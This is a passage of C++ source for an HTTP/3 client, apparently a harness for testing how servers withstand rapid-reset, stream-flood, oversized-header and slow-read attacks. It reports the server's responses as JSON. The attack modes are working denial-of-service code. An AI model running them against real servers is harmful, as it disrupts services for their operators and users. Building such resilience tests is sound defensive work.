      fail(std::string("TLS handshake failed: alert ") +
           std::to_string(ngtcp2_conn_get_tls_alert(conn_)));
      return false;
    }
    if (rv == NGTCP2_ERR_DROP_CONN && stateless_reset_) {
      draining_ = true;
      done_ = true;
      return false;
    }
    fail(std::string("ngtcp2_conn_read_pkt: ") + ngtcp2_strerror(rv));
    return false;
  }
}

bool Client::write_packets() {
  uint8_t buf[1500];
  ngtcp2_path_storage ps;
  ngtcp2_path_storage_zero(&ps);
  ngtcp2_pkt_info pi{};
  uint64_t ts = now_ns();
  for (int guard = 0; guard < 100000; ++guard) {
    int64_t sid = -1;
    int fin = 0;
    nghttp3_vec vec[16];
    nghttp3_ssize cnt = 0;
    if (h3_ && ngtcp2_conn_get_max_data_left(conn_)) {
      cnt = nghttp3_conn_writev_stream(h3_, &sid, &fin, vec, 16);
      if (cnt < 0) {
        fail(std::string("nghttp3_conn_writev_stream: ") + nghttp3_strerror(static_cast<int>(cnt)));
        return false;
      }
    }
    uint64_t total = 0;
    for (nghttp3_ssize i = 0; i < cnt; ++i)
      total += vec[i].len;
    ngtcp2_ssize ndatalen = -1;
    uint32_t flags = NGTCP2_WRITE_STREAM_FLAG_MORE | (fin ? NGTCP2_WRITE_STREAM_FLAG_FIN : 0);
    auto n = ngtcp2_conn_writev_stream(conn_, &ps.path, &pi, buf, sizeof buf, &ndatalen, flags, sid,
                                       reinterpret_cast<const ngtcp2_vec*>(vec),
                                       static_cast<size_t>(cnt), ts);
    if (n < 0) {
      switch (n) {
        case NGTCP2_ERR_STREAM_DATA_BLOCKED:
          nghttp3_conn_block_stream(h3_, sid);
          continue;
        case NGTCP2_ERR_STREAM_SHUT_WR:
        case NGTCP2_ERR_STREAM_NOT_FOUND:
          nghttp3_conn_shutdown_stream_write(h3_, sid);
          continue;
        case NGTCP2_ERR_WRITE_MORE:
          if (nghttp3_conn_add_write_offset(h3_, sid, static_cast<size_t>(ndatalen)) != 0) {
            fail("nghttp3_conn_add_write_offset failed");
            return false;
          }
          if (fin && static_cast<uint64_t>(ndatalen) == total && ngtcp2_is_bidi_stream(sid))
            mark_sent(sid);
          continue;
        case NGTCP2_ERR_DRAINING:
          note_close();
          draining_ = true;
          done_ = true;
          return false;
        case NGTCP2_ERR_CLOSING:
          draining_ = true;
          done_ = true;
          return false;
        default:
          fail(std::string("ngtcp2_conn_writev_stream: ") + ngtcp2_strerror(static_cast<int>(n)));
          return false;
      }
    }
    if (ndatalen >= 0 && sid >= 0) {
      if (nghttp3_conn_add_write_offset(h3_, sid, static_cast<size_t>(ndatalen)) != 0) {
        fail("nghttp3_conn_add_write_offset failed");
        return false;
      }
      if (fin && static_cast<uint64_t>(ndatalen) == total && ngtcp2_is_bidi_stream(sid))
        mark_sent(sid);
    }
    if (n == 0) break;
    for (;;) {
      ssize_t w = send(fd_, buf, static_cast<size_t>(n), 0);
      if (w >= 0) break;
      if (errno == EINTR || errno == ECONNREFUSED) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        pollfd p{fd_, POLLOUT, 0};
        poll(&p, 1, 50);
        continue;
      }
      fail(std::string("send: ") + std::strerror(errno));
      return false;
    }
    ++datagrams_out_;
    bytes_out_ += static_cast<uint64_t>(n);
  }
  ngtcp2_conn_update_pkt_tx_time(conn_, ts);
  return true;
}

// What the mode does once the handshake is done: open, reset, consume, decide it is over.
void Client::step() {
  if (!handshake_ || !h3_ || done_) return;
  uint64_t now = now_ns();
  const std::string& m = o_.mode;
  uint64_t closed = 0, in_flight = 0;
  for (const auto& [id, s] : streams_) {
    if (s.closed)
      ++closed;
    else
      ++in_flight;
  }
  peak_in_flight_ = std::max(peak_in_flight_, in_flight);

  if (m == "get" || m == "stream-flood") {
    if (m == "stream-flood" && target_ == 0) {
      const ngtcp2_transport_params* tp = ngtcp2_conn_get_remote_transport_params(conn_);
      target_ = std::max<uint64_t>(1, (tp ? tp->initial_max_streams_bidi : 100) * 3);
    }
    // stream-flood asks for one more than it may each round: that one is refused locally.
    if (first_open_ns_ == 0) first_open_ns_ = now;
    while (opened_ < target_ && !done_) {
      if (o_.rate > 0 && static_cast<double>(opened_) >=
                             o_.rate * static_cast<double>(now - first_open_ns_) / 1e9 + 1)
        break;
      if (!open_request(path_arg_, {})) break;
    }
    if (closed >= target_ && opened_ >= target_) done_ = true;
    return;
  }
  if (m == "rapid-reset") {
    if (first_open_ns_ == 0) first_open_ns_ = now;
    while (opened_ < target_ && !done_) {
      if (o_.rate > 0 && static_cast<double>(opened_) >=
                             o_.rate * static_cast<double>(now - first_open_ns_) / 1e9 + 1)
        break;
      if (!open_request(path_arg_, {})) break;
    }
    if (opened_ >= target_ && resets_sent_ >= target_) {
      // Everything was sent and reset: a second for the server's verdict, then done.
      if (linger_until_ == 0) linger_until_ = now + NGTCP2_SECONDS;
      if (now >= linger_until_) done_ = true;
    }
    return;
  }
  if (m == "big-headers") {
    // --same-field: the server's SETTINGS (its QPACK table capacity) must have come first, or
    // the encoder uses no dynamic table. nghttp3 0.8 does not tell when they came: the first
    // bytes of the server's unidirectional streams (its control stream starts with SETTINGS),
    // then 50 ms more (or 2 s without any).
    if (server_uni_seen_ && settings_ns_ == 0) settings_ns_ = now;
    bool settings_in = (settings_ns_ != 0 && now - settings_ns_ >= 50 * NGTCP2_MILLISECONDS) ||
                       now - handshake_ns_ >= 2 * NGTCP2_SECONDS;
    if (opened_ == 0 && (!o_.same_field || settings_in)) {
      Fields extra;
      // HTTP/3 (RFC 9114 §4.2.2) counts a field as its name, its value and 32 bytes; the
      // pseudo-header fields and user-agent come first.
      uint64_t base = 0;
      for (auto [n, v] : {std::pair<size_t, size_t>{7, 3},
                          {7, 5},
                          {10, o_.authority.size()},
                          {5, path_arg_.size()},
                          {10, 14}})
        base += n + v + 32;
      uint64_t want = std::max<uint64_t>(target_, base) - base;
      // The fields point into names_ and value_ (one value for all: a 400 MB section is 200,000
      // views of one 2 KB string, not 400 MB here).
      value_.assign(o_.field_size, 'v');
      names_.clear();
      uint64_t i = 0;
      while (want > 0) {
        char buf[32];
        if (o_.same_field)
          std::snprintf(buf, sizeof buf, "accept-language");  // QPACK indexes it
        else
          std::snprintf(buf, sizeof buf, "x-big-%06" PRIu64, i++);
        if (names_.empty() || names_.back() != buf) names_.emplace_back(buf);
        std::string_view name = names_.back();
        uint64_t one = name.size() + 32;
        uint64_t vlen = want > one + o_.field_size ? o_.field_size : (want > one ? want - one : 1);
        extra.emplace_back(name, std::string_view(value_).substr(0, static_cast<size_t>(vlen)));
        uint64_t got = one + vlen;
        want = got >= want ? 0 : want - got;
      }
      header_fields_ = extra.size() + 5;
      header_bytes_ = base;
      for (const auto& [n, v] : extra)
        header_bytes_ += n.size() + v.size() + 32;
      open_request(path_arg_, extra);
    }
    for (const auto& [id, s] : streams_)
      if (s.closed) done_ = true;
    return;
  }
  if (m == "slow-read") {
    if (opened_ == 0) {
      open_request(path_arg_, {});
      hold_until_ = now + static_cast<uint64_t>(o_.hold * 1e9);
    }
    if (o_.read_rate > 0 && last_tick_ != 0) {
      uint64_t budget = o_.read_rate * (now - last_tick_) / NGTCP2_SECONDS;
      for (auto& [id, s] : streams_) {
        uint64_t n = std::min(budget, s.unconsumed);
        if (n == 0 || s.closed) continue;
        s.unconsumed -= n;
        budget -= n;
        consumed_total_ += n;
        ngtcp2_conn_extend_max_stream_offset(conn_, id, n);
        ngtcp2_conn_extend_max_offset(conn_, n);
      }
    }
    last_tick_ = now;
    if (last_body_ns_ != 0 && now - last_body_ns_ > 300 * NGTCP2_MILLISECONDS &&
        stalled_since_ns_ == 0)
      stalled_since_ns_ = last_body_ns_;
    if (now >= hold_until_) done_ = true;
    for (const auto& [id, s] : streams_)
      if (s.closed) done_ = true;
  }
}

// rapid-reset: every request whose HEADERS went out is cancelled at once.
void Client::after_write() {
  if (o_.mode != "rapid-reset" || done_) return;
  for (auto& [id, s] : streams_) {
    if (!s.req_sent || s.reset_sent || s.closed) continue;
    s.reset_sent = true;
    ++resets_sent_;
    ngtcp2_conn_shutdown_stream(conn_, id, NGHTTP3_H3_REQUEST_CANCELLED);
    if (h3_) nghttp3_conn_shutdown_stream_read(h3_, id);  // QPACK: Stream Cancellation
  }
}

void Client::send_close() {
  if (draining_ || conn_ == nullptr || ngtcp2_conn_is_in_closing_period(conn_) ||
      ngtcp2_conn_is_in_draining_period(conn_))
    return;
  ngtcp2_connection_close_error ccerr;
  ngtcp2_connection_close_error_default(&ccerr);
  ngtcp2_connection_close_error_set_application_error(&ccerr, NGHTTP3_H3_NO_ERROR, nullptr, 0);
  uint8_t buf[1500];
  ngtcp2_path_storage ps;
  ngtcp2_path_storage_zero(&ps);
  ngtcp2_pkt_info pi{};
  auto n =
      ngtcp2_conn_write_connection_close(conn_, &ps.path, &pi, buf, sizeof buf, &ccerr, now_ns());
  if (n > 0 && send(fd_, buf, static_cast<size_t>(n), 0) == n) closed_by_us_ = true;
}

int Client::run() {
  const std::string& m = o_.mode;
  auto arg = [&](size_t i, const char* dflt) -> std::string {
    return i < o_.args.size() ? o_.args[i] : std::string(dflt ? dflt : "");
  };
  if (m == "get" || m == "rapid-reset") {
    if (o_.args.size() != 2) usage((m + " needs N PATH").c_str());
    target_ = parse_u64(o_.args[0], "bad N");
    path_arg_ = o_.args[1];
  } else if (m == "stream-flood") {
    if (o_.args.size() > 2) usage("stream-flood [N] [PATH]");
    target_ = o_.args.empty() ? 0 : parse_u64(o_.args[0], "bad N");
    path_arg_ = arg(1, "/slow?delay=500ms");
  } else if (m == "big-headers") {
    if (o_.args.empty() || o_.args.size() > 2) usage("big-headers BYTES [PATH]");
    target_ = parse_u64(o_.args[0], "bad BYTES");
    path_arg_ = arg(1, "/");
  } else if (m == "slow-read") {
    if (o_.args.size() != 1) usage("slow-read PATH");
    path_arg_ = o_.args[0];
  } else {
    usage(("unknown mode " + m).c_str());
  }

  start_ = now_ns();
  deadline_ = start_ + static_cast<uint64_t>(o_.timeout * 1e9);
  if (!open_socket() || !init_tls() || !init_quic()) {
    print_summary();
    return 1;
  }
  write_packets();
  while (!done_) {
    uint64_t now = now_ns();
    if (now >= deadline_) {
      timed_out_ = true;
      break;
    }
    uint64_t expiry = ngtcp2_conn_get_expiry(conn_);
    uint64_t wake = std::min(deadline_, expiry);
    if (m == "slow-read" || linger_until_ != 0 || o_.rate > 0 ||
        (m == "big-headers" && opened_ == 0))
      wake = std::min(wake, now + (o_.rate > 0 ? 5 : 20) * NGTCP2_MILLISECONDS);
    int ms = wake > now
                 ? static_cast<int>(std::min<uint64_t>((wake - now + 999999) / 1000000, 1000))
                 : 0;
    pollfd p{fd_, POLLIN, 0};
    int pr = poll(&p, 1, ms);
    if (pr < 0 && errno != EINTR) {
      fail(std::string("poll: ") + std::strerror(errno));
      break;
    }
    if (pr > 0 && !read_packets()) break;
    now = now_ns();
    if (ngtcp2_conn_get_expiry(conn_) <= now) {
      int rv = ngtcp2_conn_handle_expiry(conn_, now);
      if (rv != 0) {
        if (rv == NGTCP2_ERR_IDLE_CLOSE)
          fail("idle timeout");
        else if (rv == NGTCP2_ERR_HANDSHAKE_TIMEOUT)
          fail("handshake timeout");
        else
          fail(std::string("ngtcp2_conn_handle_expiry: ") + ngtcp2_strerror(rv));
        break;
      }
    }
    step();
    if (!write_packets()) break;
    after_write();
    if (!write_packets()) break;
  }
  if (!draining_) send_close();
  print_summary();
  return 0;
}

void Client::print_summary() {
  double elapsed = static_cast<double>(now_ns() - start_) / 1e9;
  std::map<int, uint64_t> statuses;
  std::map<int64_t, uint64_t> resets, stops, close_codes;
  uint64_t complete = 0, body = 0, closed = 0, unanswered = 0;
  for (const auto& [id, s] : streams_) {
    if (s.status != 0)
      ++statuses[s.status];
    else
      ++unanswered;
    if (s.reset_code >= 0) ++resets[s.reset_code];
    if (s.stop_code >= 0) ++stops[s.stop_code];
    if (s.closed) {
      ++closed;
      ++close_codes[s.close_code];
    }
    if (s.ended) ++complete;
    body += s.body;
  }
  std::string out = "{";
  auto kv = [&](const std::string& k, const std::string& v) {
    if (out.size() > 1) out += ", ";
    out += json_str(k) + ": " + v;
  };
  auto num = [](uint64_t v) { return std::to_string(v); };
  auto code_map = [&](const std::map<int64_t, uint64_t>& m) {
    std::string s = "{";
    for (const auto& [c, n] : m) {
      if (s.size() > 1) s += ", ";
      s += json_str(c < 0 ? std::string("none") : hex(static_cast<uint64_t>(c))) + ": " + num(n);
    }
    return s + "}";
  };
  kv("mode", json_str(o_.mode));
  kv("args", [&] {
    std::string s = "[";
    for (size_t i = 0; i < o_.args.size(); ++i)
      s += (i ? ", " : "") + json_str(o_.args[i]);
    return s + "]";
  }());
  kv("handshake", handshake_ ? "true" : "false");
  kv("alpn", json_str(alpn_));
  char e[32];
  std::snprintf(e, sizeof e, "%.3f", elapsed);
  kv("elapsed", e);
  kv("timed_out", timed_out_ ? "true" : "false");
  kv("error", error_.empty() ? "null" : json_str(error_));
  if (conn_ && handshake_) {
    const ngtcp2_transport_params* tp = ngtcp2_conn_get_remote_transport_params(conn_);
    if (tp) {
      kv("server_params",
         "{\"initial_max_streams_bidi\": " + num(tp->initial_max_streams_bidi) +
             ", \"initial_max_streams_uni\": " + num(tp->initial_max_streams_uni) +
             ", \"initial_max_stream_data_bidi_remote\": " +
             num(tp->initial_max_stream_data_bidi_remote) +
             ", \"initial_max_data\": " + num(tp->initial_max_data) +
             ", \"max_idle_timeout_ms\": " + num(tp->max_idle_timeout / NGTCP2_MILLISECONDS) + "}");
    }
  }
  // What was sent.
  kv("opened", num(opened_));
  kv("requests_sent",
     num(static_cast<uint64_t>(std::count_if(streams_.begin(), streams_.end(),
                                             [](const auto& p) { return p.second.req_sent; }))));
  kv("resets_sent", num(resets_sent_));
  kv("refused_locally", num(refused_locally_));
  kv("first_burst", num(refused_once_ ? first_burst_ : opened_));
  kv("max_streams_credit", num(max_streams_credit_));
  kv("peak_in_flight", num(peak_in_flight_));
  if (o_.mode == "big-headers") {
    kv("header_bytes", num(header_bytes_));
    kv("header_fields", num(header_fields_));
  }
  // What came back.
  {
    std::string s = "{";
    for (const auto& [st, n] : statuses) {
      if (s.size() > 1) s += ", ";
      s += json_str(std::to_string(st)) + ": " + num(n);
    }
    kv("statuses", s + "}");
  }
  kv("unanswered", num(unanswered));
  kv("complete", num(complete));
  kv("streams_closed", num(closed));
  kv("stream_close_codes", code_map(close_codes));
  kv("resets_received", code_map(resets));
  kv("stop_sending_received", code_map(stops));
  kv("body_bytes", num(body));
  kv("consumed", num(consumed_total_));
  if (o_.mode == "slow-read") {
    kv("window", num(o_.window));
    kv("read_rate", num(o_.read_rate));
    char t[64];
    std::snprintf(t, sizeof t, "%.3f",
                  stalled_since_ns_ ? static_cast<double>(stalled_since_ns_ - start_) / 1e9 : -1.0);
    kv("stalled_at", t);
  }
  {
    // The first stream's timeline (big-headers: did the answer come before the request was all
    // sent?), in seconds from the start.
    auto at = [&](uint64_t ns) {
      char t[32];
      std::snprintf(t, sizeof t, "%.3f", ns ? static_cast<double>(ns - start_) / 1e9 : -1.0);
      return std::string(t);
    };
    uint64_t sent = 0, status = 0;
    if (!streams_.empty()) {
      sent = streams_.begin()->second.sent_ns;
      status = streams_.begin()->second.status_ns;
    }
    kv("first_request_sent_at", at(sent));
    kv("first_status_at", at(status));
  }
  kv("goaway_id", goaway_id_ < 0 ? "null" : num(static_cast<uint64_t>(goaway_id_)));
  kv("closed_by_server", close_.seen || draining_ ? "true" : "false");
  if (close_.seen) {
    kv("close", "{\"type\": " + json_str(close_.type) + ", \"code\": " + num(close_.code) +
                    ", \"hex\": " + json_str(hex(close_.code)) + ", \"name\": " +
                    json_str(close_.name) + ", \"reason\": " + json_str(close_.reason) + "}");
  } else {
    kv("close", "null");
  }
  kv("stateless_reset", stateless_reset_ ? "true" : "false");
  kv("closed_by_us", closed_by_us_ ? "true" : "false");
  kv("datagrams", "{\"in\": " + num(datagrams_in_) + ", \"out\": " + num(datagrams_out_) +
                      ", \"bytes_in\": " + num(bytes_in_) + ", \"bytes_out\": " + num(bytes_out_) +
                      "}");
  {
    std::string s = "[";
    size_t i = 0;
    for (const auto& [id, st] : streams_) {
      if (i++ == 20) break;
      if (s.size() > 1) s += ", ";
      s += "{\"id\": " + num(static_cast<uint64_t>(id)) +
           ", \"status\": " + num(static_cast<uint64_t>(st.status)) +
           ", \"body\": " + num(st.body) + ", \"ended\": " + (st.ended ? "true" : "false") +
           ", \"reset\": " +
           (st.reset_code < 0 ? "null" : json_str(hex(static_cast<uint64_t>(st.reset_code)))) +
           ", \"close_code\": " +
           (st.close_code < 0 ? "null" : json_str(hex(static_cast<uint64_t>(st.close_code)))) + "}";
    }
    kv("first_streams", s + "]");
  }
  out += "}";
  std::printf("%s\n", out.c_str());
  std::fflush(stdout);
}

}  // namespace

int main(int argc, char** argv) {
  Options o = parse(argc, argv);
  Client c(std::move(o));
  return c.run();
}
